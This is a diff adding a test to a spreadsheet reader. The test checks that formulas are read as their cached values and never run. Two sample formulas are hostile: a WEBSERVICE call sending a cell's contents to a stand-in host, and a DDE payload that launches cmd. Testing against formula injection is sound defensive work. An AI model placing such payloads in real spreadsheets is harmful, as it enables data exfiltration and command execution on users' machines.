@@ -257,3 +257,17 @@ def test_a_text_file_may_be_named_like_a_workbook(folder: Path) -> None:
 
     assert [values_of(table) for table in reading.tables] == [[["1", "Ann"]]]
     assert "is a web page" in str(reading.refused[0])
+
+
+def test_a_formula_is_what_it_last_said_and_is_never_run(folder: Path) -> None:
+    with xlsxwriter.Workbook(folder / "book.xlsx") as made:
+        sheet = made.add_worksheet("S")
+        sheet.write_row(0, 0, ["id", "said"])
+        sheet.write_number(1, 0, 1)
+        sheet.write_formula(1, 1, "=1+1", None, 7)
+        sheet.write_number(2, 0, 2)
+        sheet.write_formula(2, 1, '=WEBSERVICE("http://example.invalid/"&A1)', None, 8)
+        sheet.write_number(3, 0, 3)
+        sheet.write_formula(3, 1, "=cmd|' /C calc'!A0", None, 9)
+
+    assert values_of(only_table(read(folder))) == [[1, 7], [2, 8], [3, 9]]
